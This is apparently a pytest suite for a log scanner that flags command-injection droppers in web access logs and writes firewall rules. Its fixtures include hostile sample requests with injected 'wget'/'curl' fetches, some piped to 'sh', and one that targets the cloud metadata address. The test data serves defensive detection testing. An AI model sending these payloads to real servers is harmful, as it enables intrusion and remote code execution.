"""Honest results (issue 10, parts 3-6): every output says what it covered, a failed scan is never
an all-clear, outputs never destroy evidence, exit codes a script can rely on, memory bounded by
the tool. Through the real console entry (a subprocess), where a user meets them."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import warnings
from contextlib import contextmanager

import pytest

import dropscan
from conftest import combined_line, diagnostics, dropscan_main
from dropscan.detect.egress import Destination
from dropscan.detect.findings import Finding
from dropscan.outputs.render import render
from dropscan.report import egress_report as report_mod
from dropscan.report.egress_report import ReportBuilder
from dropscan.state.lock import exclusive

ATTACK = combined_line("/x?c=;wget%20http://203.0.113.9/a.sh", client="198.51.100.7")
NORMAL = combined_line("/index.html")


def one_line_error(p: subprocess.CompletedProcess, *parts: str) -> str:
    """The process exited 2 with exactly one stderr line before the coverage summary, no
    traceback, containing ``parts``."""
    assert p.returncode == 2, (p.returncode, p.stderr)
    (line,) = diagnostics(p.stderr)
    assert line.startswith("dropscan: error: ") and "Traceback" not in p.stderr
    for part in parts:
        assert part in line, line
    return line


@pytest.fixture
def logs(tmp_path):
    d = tmp_path / "logs"
    d.mkdir()
    (d / "access.log").write_bytes(NORMAL + ATTACK)
    (d / "clean-site.log").write_bytes(NORMAL * 3)
    return d


# --- 3. coverage is always stated; a failed scan is never an all-clear ---------------------------
@pytest.mark.parametrize("fmt", ["table", "json", "markdown", "html"])
def test_a_report_of_a_mistyped_directory_says_incomplete_and_exits_2(tmp_path, fmt):
    out = tmp_path / f"report.{fmt}"
    typo = tmp_path / "apache2-typo"
    p = dropscan_main("report", str(typo), "-f", fmt, "-o", str(out))
    assert p.returncode == 2 and f"{typo}: no such file or directory" in p.stderr
    text = out.read_text()
    if fmt == "json":
        data = json.loads(text)
        assert list(data)[:4] == ["schema_version", "complete", "errors", "scan"]
        assert data["complete"] is False and data["errors"] == [f"{typo}: no such file or directory"]
    else:
        # INCOMPLETE, naming what failed, before anything else the report says
        first = text.split("INCOMPLETE", 1)
        assert len(first) == 2 and "host(s) with findings" not in first[0]
        assert str(typo) in first[1].splitlines()[0].replace("\\", "")  # markdown escapes _
    assert p.stdout.startswith("INCOMPLETE: 1 input(s) failed")


@pytest.mark.parametrize("fmt", ["table", "markdown", "html"])
def test_every_report_format_opens_with_what_it_covered(logs, tmp_path, fmt):
    out = tmp_path / f"r.{fmt}"
    p = dropscan_main("report", str(logs), "-f", fmt, "-o", str(out))
    assert p.returncode == 1, p.stderr
    text = out.read_text()
    covered = text.index("covered: 2 file(s) (1 with findings, 1 clean, 0 failed, 0 skipped), 5 lines")
    assert covered < text.index("host(s) with findings") and "INCOMPLETE" not in text
    assert "2026-11-27T10:00:00+00:00 to 2026-11-27T10:00:00+00:00" in text and "formats: combined" in text
    # nothing found is not nothing read: the clean file and its host are listed as clean
    assert f"clean: {logs / 'clean-site.log'} (combined, 3 lines, 0 finding(s))" in text.replace("\\", "")
    assert "clean hosts (logs read, no findings): clean-site" in text.replace("\\", "")


def test_json_report_and_scan_summary_state_coverage(logs, tmp_path):
    p = dropscan_main("report", str(logs), "-f", "json")
    data = json.loads(p.stdout)
    assert (p.returncode, data["complete"], data["clean_hosts"]) == (1, True, ["clean-site"])
    t = data["scan"]["totals"]
    assert (t["files"], t["lines"], t["records"], t["rejected"], t["clean_files"], t["formats"]) == (
        2, 5, 5, 0, 1, ["combined"]
    )  # fmt: skip
    assert (t["first"], t["last"]) == ("2026-11-27T10:00:00+00:00", "2026-11-27T10:00:00+00:00")
    assert [f["status"] for f in data["scan"]["files"]] == ["findings", "clean"]


def test_a_scan_with_findings_and_a_failed_input_exits_2(logs, tmp_path):
    s, out = tmp_path / "s.json", tmp_path / "f.jsonl"
    p = dropscan_main("scan", str(logs / "access.log"), str(tmp_path / "gone.log"), "-o", str(out), "--summary", str(s))
    one_line_error(p, "gone.log: no such file or directory")
    assert len(out.read_text().splitlines()) == 1  # the findings of what could be read are written
    summary = json.loads(s.read_text())
    assert list(summary) == ["schema_version", "complete", "errors", "totals", "files"] and summary["complete"] is False


def test_api_raises_when_nothing_was_read_and_warns_when_some_failed(logs, tmp_path):
    with pytest.raises(dropscan.InputError, match="no such file or directory"):
        dropscan.scan_frame(tmp_path / "nonexistent")
    with pytest.raises(dropscan.InputError):
        dropscan.egress_report(tmp_path / "nonexistent")
    with pytest.warns(dropscan.IncompleteScanWarning, match="gone.log"):
        df = dropscan.scan_frame([logs / "access.log", tmp_path / "gone.log"])
    assert len(df) == 1 and df.attrs["summary"]["complete"] is False
    assert [f["status"] for f in df.attrs["summary"]["files"]] == ["findings"]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert dropscan.scan_frame(logs).attrs["summary"]["complete"] is True


# --- 4. outputs never destroy evidence ------------------------------------------------------------
@pytest.mark.parametrize("option", ["-o", "--rejects", "--summary", "--state"])
def test_an_output_that_is_an_input_is_refused_before_anything_is_touched(logs, tmp_path, option):
    log = logs / "access.log"
    before = log.read_bytes()
    link = tmp_path / "link.log"
    link.symlink_to(log)
    hard = tmp_path / "hard.log"
    os.link(log, hard)
    for target, inputs in ((log, [log]), (link, [log]), (hard, [log]), (logs / "new.json", [logs])):
        p = dropscan_main("scan", *map(str, inputs), option, str(target), "-f", "jsonl")
        one_line_error(p, "is an input", option)
        assert p.stdout == "" and log.read_bytes() == before
    assert not (logs / "new.json").exists()


def test_a_second_run_that_exits_75_leaves_the_running_jobs_outputs_alone(logs, tmp_path):
    state, rejects, out = tmp_path / "state.json", tmp_path / "rejects.log", tmp_path / "out.jsonl"
    rejects.write_bytes(b"the running job's rejects\n")
    out.write_bytes(b"the running job's findings\n")
    with exclusive(str(state)):  # the running job holds the lock
        p = dropscan_main("scan", str(logs), "--state", str(state), "--rejects", str(rejects), "-o", str(out))
    assert p.returncode == 75 and "in use by another dropscan run" in p.stderr
    assert rejects.read_bytes() == b"the running job's rejects\n"
    assert out.read_bytes() == b"the running job's findings\n"


def _not_a_log_dir(tmp_path):
    d = tmp_path / "varlog"
    d.mkdir()
    (d / "access.log").write_bytes(NORMAL)
    (d / "cloud-init-output.log").write_bytes(b"+ curl -fsSL https://get.docker.com | sh\nInstalling docker\n")
    return d


def test_a_directory_walk_skips_files_that_are_not_access_logs(tmp_path):
    d = _not_a_log_dir(tmp_path)
    s = tmp_path / "s.json"
    p = dropscan_main("scan", str(d), "-f", "jsonl", "--summary", str(s))
    assert (p.returncode, p.stdout, diagnostics(p.stderr)) == (0, "", [])
    assert "1 skipped" in p.stderr  # the coverage says so
    files = {os.path.basename(f["path"]): f for f in json.loads(s.read_text())["files"]}
    assert files["cloud-init-output.log"]["status"] == "skipped" and files["cloud-init-output.log"]["lines"] == 0
    assert files["cloud-init-output.log"]["skipped"] == "not a recognised access log"
    p = dropscan_main("rules", str(d), "--firewall", "nftables")
    assert p.returncode == 0 and "get.docker.com" not in p.stdout


def test_a_directory_where_every_file_is_skipped_is_not_an_all_clear(tmp_path):
    d = _not_a_log_dir(tmp_path)
    (d / "access.log").unlink()
    p = dropscan_main("scan", str(d), "-f", "jsonl")
    one_line_error(p, "no recognised access log among the 1 file(s) found: all skipped")


def test_a_named_file_that_is_not_a_log_is_an_error_unless_log_format_says(tmp_path):
    f = _not_a_log_dir(tmp_path) / "cloud-init-output.log"
    one_line_error(dropscan_main("scan", str(f), "-f", "jsonl"), "no known log format", "(use --log-format)")
    p = dropscan_main("scan", str(f), "-f", "jsonl", "--log-format", "combined")
    assert p.returncode == 2 and "no line matches the log format" in p.stderr  # read, as the user asked
    assert json.loads(p.stdout.splitlines()[0])["field"] == "line"


def _hostile_rules_log(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(
        combined_line("/x?c=;wget%20http://203.0.113.9/a.sh")  # a documentation address: a target
        + combined_line("/x?c=;wget%20http://10.1.2.3/a.sh")  # private
        + combined_line("/x?c=;curl%20http://100.64.0.7/a.sh")  # CGNAT
        + combined_line("/x?c=;curl%20http://[fd00::5]/a.sh")  # ULA
        + combined_line("/x?c=;wget%20http://169.254.169.254/latest")  # link-local (cloud metadata)
        + b'X-Forwarded-For: 10.9.9.9 ";wget http://198.51.100.44/x.sh|sh"\n'  # not parsed as a request
    )
    return log


def test_rules_only_for_internet_addresses_from_parsed_requests(tmp_path):
    log = _hostile_rules_log(tmp_path)
    p = dropscan_main("rules", str(log), "--firewall", "nftables", "--host", "web1")
    assert p.returncode == 0, p.stderr
    rules = [ln for ln in p.stdout.splitlines() if not ln.lstrip().startswith("#")]
    elements = [ln.strip() for ln in rules if ln.strip().endswith(",")]
    assert elements == ["203.0.113.9,"]
    comments = p.stdout
    for line in (
        "#   10.1.2.3 http:80 on web1: private (RFC 1918), never a rule target",
        "#   100.64.0.7 http:80 on web1: shared address space (CGNAT, RFC 6598), never a rule target",
        "#   fd00::5 http:80 on web1: private (unique local / site-local), never a rule target",
        "#   169.254.169.254 http:80 on web1: link-local, never a rule target",
        "#   198.51.100.44 http:80 on web1 (1)",
    ):
        assert line in comments.splitlines(), line
    p = dropscan_main("rules", str(log), "--firewall", "nftables", "--host", "web1", "--include-unparsed")
    elements = [ln.strip() for ln in p.stdout.splitlines() if ln.strip().endswith(",") and "#" not in ln]
    assert elements == ["198.51.100.44,", "203.0.113.9,"] or elements == ["203.0.113.9,", "198.51.100.44,"]
    assert "1 of them on lines NOT parsed as requests (--include-unparsed)" in p.stdout
    # an input that could not be read: the rules are written, say so, and the exit status is 2
    p = dropscan_main("rules", str(log), str(tmp_path / "gone.log"), "--firewall", "nftables", "--host", "web1")
    one_line_error(p, "gone.log: no such file or directory")
    assert "# INCOMPLETE: these inputs could not be read, so addresses may be missing:" in p.stdout


def _check_with(tool: list[str], text: str, tmp_path, name: str) -> None:
    if shutil.which(tool[0]) is None:
        pytest.skip(f"{tool[0]} is not installed")
    path = tmp_path / name
    path.write_text(text)
    p = subprocess.run([*tool, str(path)], capture_output=True, text=True)
    if p.returncode and ("Permission denied" in p.stderr or "Operation not permitted" in p.stderr):
        pytest.skip(f"{tool[0]} needs privileges here: {p.stderr.strip()}")
    assert p.returncode == 0, p.stderr


def test_rules_output_loads_as_is(tmp_path):
    log = _hostile_rules_log(tmp_path)
    log.write_bytes(log.read_bytes() + combined_line("/x?c=;wget%20http://[2001:db8::9]/a.sh"))
    p = dropscan_main("rules", str(log), "--firewall", "nftables")
    assert p.returncode == 0
    _check_with(["nft", "-c", "-f"], p.stdout, tmp_path, "x.nft")
    for family, tool in (("4", "iptables-restore"), ("6", "ip6tables-restore")):
        p = dropscan_main("rules", str(log), "--firewall", "iptables", "--family", family)
        assert p.returncode == 0 and "# =====" not in p.stdout
        assert ("2001:db8::9" in p.stdout) == (family == "6") and ("203.0.113.9" in p.stdout) == (family == "4")
        _check_with([tool, "--test"], p.stdout, tmp_path, f"rules.v{family}")
    one_line_error(dropscan_main("rules", str(log), "--firewall", "iptables"), "--family 4 or 6")


# --- 5. exit codes and errors a script can rely on -----------------------------------------------
def test_output_mistakes_are_one_line_and_exit_2_before_scanning(logs, tmp_path):
    log = str(logs / "access.log")
    one_line_error(dropscan_main("scan", log, "-o", str(tmp_path)), "is a directory")
    one_line_error(dropscan_main("scan", log, "-o", "/nonexistent/x.jsonl"), "no such directory")
    one_line_error(dropscan_main("report", log, "-o", "/nonexistent/r.html"), "no such directory")
    one_line_error(dropscan_main("scan", log, "--summary", str(tmp_path)), "--summary", "is a directory")


@contextmanager
def tmpfs(path, options: str):
    """A real small or read-only file system (needs root and mount; else the test skips)."""
    path.mkdir()
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a tmpfs needs root")
    p = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(path)], capture_output=True, text=True)
    if p.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {p.stderr.strip()}")
    try:
        yield path
    finally:
        subprocess.run(["umount", str(path)], check=True)


def test_disk_full_is_one_line_exit_2_and_leaves_no_half_file(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(ATTACK * 2000)  # ~1 MB of findings as JSONL
    with tmpfs(tmp_path / "small", "size=64k") as small:
        (small / "out.jsonl").write_bytes(b"yesterday's findings\n")
        p = dropscan_main("scan", str(log), "-o", str(small / "out.jsonl"))
        one_line_error(p, "No space left on device")
        assert os.listdir(small) == ["out.jsonl"]  # no temp file left behind
        assert (small / "out.jsonl").read_bytes() == b"yesterday's findings\n"  # the old file, not half a new one


def test_a_read_only_file_system_is_one_line_exit_2(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(ATTACK)
    with tmpfs(tmp_path / "ro", "ro,size=64k") as ro:
        for option in ("-o", "--summary", "--rejects"):
            one_line_error(dropscan_main("scan", str(log), option, str(ro / "x")), option, "cannot write here")


def test_an_unreachable_scheduler_fails_at_once(logs, tmp_path):
    pytest.importorskip("distributed")
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    out = tmp_path / "out.jsonl"
    p = dropscan_main("scan", str(logs), "--engine", "dask", "--scheduler", f"tcp://127.0.0.1:{port}", "-o", str(out))
    one_line_error(p, f"--scheduler tcp://127.0.0.1:{port}: cannot connect")
    assert not out.exists()


def test_parquet_without_pyarrow_fails_before_scanning(logs, tmp_path):
    out, s = tmp_path / "f.parquet", tmp_path / "s.json"
    code = "import sys; sys.modules['pyarrow'] = None; from dropscan.cli import main; main()"
    args = ["scan", str(logs), "-o", str(out), "--summary", str(s)]
    p = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True)
    one_line_error(p, "needs pyarrow")
    assert not out.exists() and not s.exists()  # nothing was scanned, so nothing was summed up


def test_help_documents_every_exit_code():
    for cmd in ([], ["scan"], ["report"], ["rules"]):
        p = subprocess.run(
            [sys.executable, "-c", "from dropscan.cli import main; main()", *cmd, "--help"],
            capture_output=True,
            text=True,
        )
        text = " ".join(p.stdout.split())
        for code in ("0 nothing found", "1 findings", "2 usage, input or output error", "75 another run", "130"):
            assert code in text, (cmd, code)
        assert "3 internal error" in text


# --- 6. memory bounded by the tool ---------------------------------------------------------------
def test_a_character_device_is_refused(tmp_path):
    one_line_error(dropscan_main("scan", "/dev/zero"), "/dev/zero: a device, not a log file")


def _finding(i: int, dests: list[str]) -> Finding:
    return Finding(
        "access.log", i, i * 100, None, None, "198.51.100.7", "GET", "/", 200, 1, None, None, "target", "x",
        ["dropper.wget"], "dropper", "critical", [Destination(h, 80, "http", True) for h in dests],
    )  # fmt: skip


def test_per_host_destinations_are_bounded_and_the_frequent_ones_kept(monkeypatch):
    monkeypatch.setattr(report_mod, "MAX_DESTINATIONS", 5)
    b = ReportBuilder()
    rare = [f"203.0.113.{i}" for i in range(1, 200)]
    i = 0
    for n, host in enumerate(rare):
        b.add(_finding(i := i + 1, [host]))
        if n % 3 == 2:
            b.add(_finding(i := i + 1, ["198.51.100.99"]))  # a quarter of the findings, among rare ones
    (h,) = b.report().hosts
    assert len(h.dests) == 5
    top = h.destinations[0]
    assert top.host == "198.51.100.99" and top.findings <= 66 <= top.weight
    total = len(rare) + 66
    assert sum(d.findings for d in h.dests.values()) + h.more_findings == total
    assert h.more_destinations >= len(rare) + 1 - 5  # every insertion past 5 dropped one
    text = render(b.report(), "table")
    assert f"and up to {h.more_destinations} more destination(s) ({h.more_findings} finding(s)) not listed" in text


def test_a_path_that_never_opened_is_counted_in_the_coverage_line(tmp_path):
    """'0 failed' beside 'INCOMPLETE' would read as a contradiction: the unreadable path is counted."""
    out = tmp_path / "r.md"
    r = dropscan_main("report", str(tmp_path / "typo"), "-f", "markdown", "-o", str(out))
    assert r.returncode == 2
    assert "1 input(s) unreadable, 0 file(s)" in out.read_text()
